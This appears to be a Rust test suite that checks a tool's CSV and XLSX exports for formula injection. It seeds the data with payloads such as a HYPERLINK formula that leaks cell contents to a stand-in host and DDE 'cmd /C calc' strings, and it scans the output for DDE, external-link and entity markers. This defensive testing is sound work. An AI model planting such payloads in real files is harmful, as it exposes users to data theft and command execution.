//! No text becomes a formula in any table that the program writes, however the table is opened.

use std::io::Cursor;
use std::path::PathBuf;

use calamine::{Reader, Xlsx};

use super::world::world;
use super::{Check, expect};
use crate::cases::files;
use crate::cli::Desk;

/// Beginnings of formulas, of calls of other programs, and of cells where the separator is another.
const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"http://x/?\"&A1,\"HIT\")",
    "=cmd|' /C calc'!HIT",
    "+HIT(1)",
    "-2+3+cmd|' /C calc'!HIT",
    "@SUM(HIT)",
    "\t=HIT()",
    "\r=HIT()",
    "\n@HIT()",
    "\u{1f}=HIT()",
    "＝HIT()",
    "x;=HIT();y",
    "x\";\"=HIT()\";\"y",
];

/// The example, every text of which begins with one of the beginnings, and one after the other.
fn spoiled() -> Desk {
    let turn = std::cell::Cell::new(0);
    let desk = world(&|text| {
        turn.set(turn.get() + 1);
        // A duty is known by its title in both languages, so both begin alike.
        format!("{} {text}", FORMULAS[turn.get() / 2 % FORMULAS.len()])
    });
    let ran = desk.run(&["simulate", "structure.json", "plan.json", "--pack", "pack.json", "--out", "out", "--force"]);
    assert!(ran.0.status.code() < Some(2), "{}", ran.err());
    desk.run(&["export", "structure.json", "--format", "csv", "-o", "net"]).ends(0);
    desk.run(&["export", "structure.json", "-o", "structure.xlsx"]).ends(0);
    desk.run(&["import", "--template", "--catalogue", "catalogue.json", "-o", "template.xlsx"]).ends(0);
    let traced = desk.run(&["trace", "structure.json", "plan.json", "--format", "csv"]).out();
    desk.write("trace.csv", &traced);
    desk
}

/// Says which cell a spreadsheet would take for a formula, opened with each of the usual separators.
fn holds_no_formula(table: &str) -> Check {
    for separator in [b',', b';', b'\t'] {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .flexible(true)
            .has_headers(false)
            .from_reader(table.as_bytes());
        for record in reader.records() {
            let record = record.map_err(|error| error.to_string())?;
            for cell in &record {
                let cell = cell.trim_start_matches(['\u{feff}', ' ', '"']);
                let is_number = cell.trim_start_matches('-').bytes().all(|sign| sign.is_ascii_digit() || sign == b'.');
                let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
                expect(!is_formula || is_number, format!("{:?}: {cell}", separator as char))?;
            }
        }
    }
    Ok(())
}

/// Seen to fail: a text written as it is; an apostrophe before the first letter only, not behind a semicolon.
#[test]
fn no_cell_of_a_csv_is_a_formula() {
    let desk = spoiled();
    let tables: Vec<PathBuf> = files(&desk.0, "csv");
    assert!(tables.len() >= 6, "{tables:?}");
    let mut marked = 0;
    for path in tables {
        let text = std::fs::read_to_string(&path).expect("a table is text");
        marked += text.matches("HIT").count();
        assert_eq!(holds_no_formula(&text), Ok(()), "{}", path.display());
    }
    assert!(marked > 50, "the texts are there: {marked}");
    for fault in FORMULAS.iter().filter(|fault| !fault.starts_with('\u{1f}')) {
        assert!(holds_no_formula(&format!("a,\"{}\"\n", fault.replace('"', "\"\""))).is_err(), "{fault:?}");
    }
}

/// Says which formula of a workbook is not one of the program's own: sums, differences and shares of cells.
fn holds_only_own_formulas(bytes: &[u8]) -> Check {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).map_err(|error| error.to_string())?;
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).map_err(|error| error.to_string())?;
        for (.., formula) in formulas.used_cells().filter(|(.., formula)| !formula.is_empty()) {
            let is_own = formula
                .chars()
                .all(|sign| sign.is_ascii_uppercase() || sign.is_ascii_digit() || "(),:+-*/=<>\"!$ ".contains(sign));
            expect(is_own && !formula.contains("HIT") && !formula.contains("HYPERLINK"), format!("{name}: {formula}"))?;
        }
    }
    let parts = crate::papers::parts(bytes);
    let foreign = |name: &&String| {
        ["external", "vba", "embed", "connection", "query", "dde"].iter().any(|word| name.to_lowercase().contains(word))
    };
    expect(!parts.keys().any(|name| foreign(&name)), format!("{:?}", parts.keys()))?;
    for (name, part) in &parts {
        let text = String::from_utf8_lossy(part);
        for word in ["<hyperlink ", "ddeLink", "TargetMode=\"External\"", "<!DOCTYPE", "<!ENTITY"] {
            expect(!text.contains(word), format!("{name}: {word}"))?;
        }
    }
    Ok(())
}

/// Seen to fail: a text given to the workbook as a formula, a link.
#[test]
fn no_cell_of_a_workbook_is_a_formula_of_somebody_else() {
    let desk = spoiled();
    let books = files(&desk.0, "xlsx");
    assert!(books.len() >= 4, "{books:?}");
    for path in books {
        let bytes = std::fs::read(&path).expect("a workbook can be read");
        assert_eq!(holds_only_own_formulas(&bytes), Ok(()), "{}", path.display());
    }
    for fault in 0..2 {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        match fault {
            0 => sheet.write_formula(0, 0, FORMULAS[0]).map(drop),
            _ => sheet.write_url(0, 0, "http://x").map(drop),
        }
        .expect("the fault can be written");
        assert!(holds_only_own_formulas(&book.save_to_buffer().expect("a workbook")).is_err(), "{fault}");
    }
}

/// Seen to fail: an apostrophe that the export puts before what looks like a formula.
#[test]
fn what_looks_like_a_formula_is_imported_again_as_it_was() {
    let desk = spoiled();
    desk.run(&["fmt", "structure.json"]).ends(0);
    desk.run(&["import", "structure.xlsx", "--catalogue", "catalogue.json", "-o", "again.json"]).ends(0);
    assert_eq!(desk.read("again.json"), desk.read("structure.json"));
}
